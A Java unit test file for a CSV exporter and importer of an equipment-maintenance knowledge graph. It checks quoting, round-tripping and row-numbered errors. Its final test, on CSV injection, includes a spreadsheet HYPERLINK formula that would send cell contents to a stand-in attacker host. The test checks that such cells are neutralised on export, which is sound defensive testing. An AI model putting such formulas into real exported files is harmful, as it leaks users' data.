package org.enterprisebrain.registry.graph;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.enterprisebrain.registry.api.model.GraphEdge;
import org.enterprisebrain.standard.Csv;
import org.enterprisebrain.registry.api.model.GraphNode;
import org.enterprisebrain.registry.api.model.Subgraph;
import org.enterprisebrain.web.ProblemException;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

class GraphCsvTest {

  static final JsonMapper JSON = JsonMapper.builder().build();

  static Subgraph sample() {
    Map<String, Object> mode = new LinkedHashMap<>();
    mode.put("iso14224", "OHE");
    mode.put("prior", 0.15);
    mode.put("note", "见 \"维修手册\", 第 3 章");
    mode.put("steps", "停机,\n冷却");
    mode.put("occurrences", 7);
    mode.put("critical", true);
    mode.put("tags", List.of("主轴", "温度"));
    mode.put("limits", Map.of("maxCel", 65.5));
    GraphNode overheat = new GraphNode("failure-mode:spindle-overheat", GraphNode.TypeEnum.FAILURE_MODE,
        "主轴过热, 报警").properties(mode);
    GraphNode symptom = new GraphNode("symptom:spindle-temperature-high", GraphNode.TypeEnum.SYMPTOM,
        "温度 \"过高\"\n第二行").properties(new LinkedHashMap<>(Map.of("alarmCode", "SP1001")));
    GraphNode machine = new GraphNode("equipment:CNC-A01", GraphNode.TypeEnum.EQUIPMENT, "立式加工中心 1#")
        .plant("hz-01").properties(new LinkedHashMap<>());
    GraphEdge has = new GraphEdge("equipment:CNC-A01", GraphEdge.TypeEnum.HAS_FAILURE_MODE,
        "failure-mode:spindle-overheat").weight(1d);
    GraphEdge indicated = new GraphEdge("failure-mode:spindle-overheat", GraphEdge.TypeEnum.INDICATED_BY,
        "symptom:spindle-temperature-high").weight(0.85);
    GraphEdge small = new GraphEdge("failure-mode:spindle-overheat", GraphEdge.TypeEnum.INDICATED_BY,
        "equipment:CNC-A01").weight(0.001);
    return new Subgraph(List.of(overheat, symptom, machine), List.of(has, indicated, small));
  }

  @Test
  void roundTripKeepsEverything() {
    Subgraph g = sample();
    String csv = GraphCsv.write(g, JSON);

    // header + 3 nodes + 3 edges; the newlines inside quoted fields do not split rows
    List<List<String>> rows = Csv.parse(csv);
    assertThat(rows).hasSize(7);
    assertThat(rows).allSatisfy(r -> assertThat(r).hasSize(6));
    assertThat(rows.get(0)).containsExactly("kind", "id_or_from", "type", "name_or_to", "properties_or_weight",
        "plant");
    assertThat(rows.get(3)).as("a machine row names its plant").endsWith("hz-01");
    assertThat(rows.get(1).get(5)).as("shared knowledge: no plant").isEmpty();
    assertThat(rows.get(1).subList(0, 4))
        .containsExactly("node", "failure-mode:spindle-overheat", "failure-mode", "主轴过热, 报警");
    assertThat(rows.get(2).get(3)).isEqualTo("温度 \"过高\"\n第二行");
    assertThat(rows.get(5)).containsExactly("edge", "failure-mode:spindle-overheat", "indicated-by",
        "symptom:spindle-temperature-high", "0.85", "");
    // RFC 4180: a field with a comma is quoted, a quote inside is doubled
    assertThat(csv).startsWith(GraphCsv.HEADER + "\r\n")
        .contains("\"主轴过热, 报警\"")
        .contains("\"温度 \"\"过高\"\"\n第二行\"");

    Subgraph back = GraphCsv.read(csv, JSON);
    assertThat(back.getNodes()).containsExactlyElementsOf(g.getNodes());
    assertThat(back.getEdges()).containsExactlyElementsOf(g.getEdges());
    assertThat(back).isEqualTo(g);

    GraphNode mode = back.getNodes().get(0);
    assertThat(mode.getName()).isEqualTo("主轴过热, 报警");
    assertThat(mode.getProperties()).containsEntry("note", "见 \"维修手册\", 第 3 章")
        .containsEntry("steps", "停机,\n冷却")
        .containsEntry("prior", 0.15)
        .containsEntry("occurrences", 7)
        .containsEntry("critical", true)
        .containsEntry("tags", List.of("主轴", "温度"))
        .containsEntry("limits", Map.of("maxCel", 65.5));
    assertThat(back.getEdges()).extracting(GraphEdge::getWeight).containsExactly(1.0, 0.85, 0.001);
  }

  @Test
  void aMissingWeightIsOne() {
    Subgraph g = new Subgraph(List.of(), List.of(
        new GraphEdge("a", GraphEdge.TypeEnum.USES, "b").weight(null)));
    Subgraph back = GraphCsv.read(GraphCsv.write(g, JSON), JSON);
    assertThat(back.getEdges().get(0).getWeight()).isEqualTo(1.0);

    Subgraph noWeightColumn = GraphCsv.read("edge,a,uses,b\r\n", JSON);
    assertThat(noWeightColumn.getEdges()).containsExactly(new GraphEdge("a", GraphEdge.TypeEnum.USES, "b").weight(1d));
  }

  @Test
  void anUnknownKindNamesItsRow() {
    String csv = GraphCsv.HEADER + "\r\n"
        + "node,equipment:CNC-A01,equipment,立式加工中心 1#,{}\r\n" // row 2
        + "vertex,equipment:CNC-A02,equipment,立式加工中心 2#,{}\r\n"; // row 3
    ProblemException e = catchThrowableOfType(ProblemException.class, () -> GraphCsv.read(csv, JSON));
    assertThat(e).isNotNull();
    assertThat(e.errors()).hasSize(1);
    assertThat(e.errors().get(0).pointer()).isEqualTo("row 3");
    assertThat(e.errors().get(0).message()).contains("vertex");
    assertThat(e.getMessage()).contains("vertex");
  }

  @Test
  void anUnknownEdgeTypeNamesItsRow() {
    String csv = GraphCsv.HEADER + "\r\n"
        + "node,a,equipment,A,{}\r\n"        // row 2
        + "node,b,component,B,{}\r\n"        // row 3
        + "edge,b,linked-to,a,0.5\r\n";      // row 4
    ProblemException e = catchThrowableOfType(ProblemException.class, () -> GraphCsv.read(csv, JSON));
    assertThat(e).isNotNull();
    assertThat(e.errors().get(0).pointer()).isEqualTo("row 4");
    assertThat(e.getMessage()).contains("linked-to");
  }

  @Test
  void aBadWeightOrBadPropertiesNameTheirRow() {
    ProblemException weight = catchThrowableOfType(ProblemException.class,
        () -> GraphCsv.read("edge,a,uses,b,heavy\r\n", JSON)); // no header: row 1
    assertThat(weight).isNotNull();
    assertThat(weight.errors().get(0).pointer()).isEqualTo("row 1");

    ProblemException json = catchThrowableOfType(ProblemException.class,
        () -> GraphCsv.read(GraphCsv.HEADER + "\nnode,a,equipment,A,{not json}\n", JSON));
    assertThat(json).isNotNull();
    assertThat(json.errors().get(0).pointer()).isEqualTo("row 2");

    ProblemException shortRow = catchThrowableOfType(ProblemException.class,
        () -> GraphCsv.read(GraphCsv.HEADER + "\nnode,a,equipment,A\nedge,a,uses\n", JSON));
    assertThat(shortRow).isNotNull();
    assertThat(shortRow.errors().get(0).pointer()).isEqualTo("row 3");
  }

  /** OWASP CSV injection: a cell a spreadsheet would run as a formula is exported as text, and imports unchanged. */
  @Test
  void formulaLikeTextIsExportedAsTextAndImportsUnchanged() {
    GraphNode formula = new GraphNode("symptom:=1+1", GraphNode.TypeEnum.SYMPTOM,
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")").properties(new LinkedHashMap<>());
    GraphNode at = new GraphNode("equipment:CNC-B01", GraphNode.TypeEnum.EQUIPMENT, "@SUM(1+1)")
        .properties(new LinkedHashMap<>());
    GraphNode minus = new GraphNode("failure-mode:-wear", GraphNode.TypeEnum.FAILURE_MODE, "-2+3")
        .properties(new LinkedHashMap<>());
    Subgraph g = new Subgraph(List.of(formula, at, minus), List.of(new GraphEdge("equipment:CNC-B01",
        GraphEdge.TypeEnum.HAS_FAILURE_MODE, "failure-mode:-wear").weight(-0.5)));
    List<List<String>> rows = Csv.parse(GraphCsv.write(g, JSON));
    assertThat(rows.get(1).get(1)).isEqualTo("symptom:=1+1");
    assertThat(rows.get(1).get(3)).startsWith("'=HYPERLINK(");
    assertThat(rows.get(2).get(3)).isEqualTo("'@SUM(1+1)");
    assertThat(rows.get(3).get(1)).as("only a leading character counts").isEqualTo("failure-mode:-wear");
    assertThat(rows.get(3).get(3)).isEqualTo("'-2+3");
    assertThat(rows.get(4).get(4)).as("a number stays a number").isEqualTo("-0.5");
    Subgraph back = GraphCsv.read(GraphCsv.write(g, JSON), JSON);
    assertThat(back.getNodes()).extracting(GraphNode::getName)
        .containsExactly(formula.getName(), "@SUM(1+1)", "-2+3");
    assertThat(back.getEdges().get(0).getWeight()).isEqualTo(-0.5);
  }
}
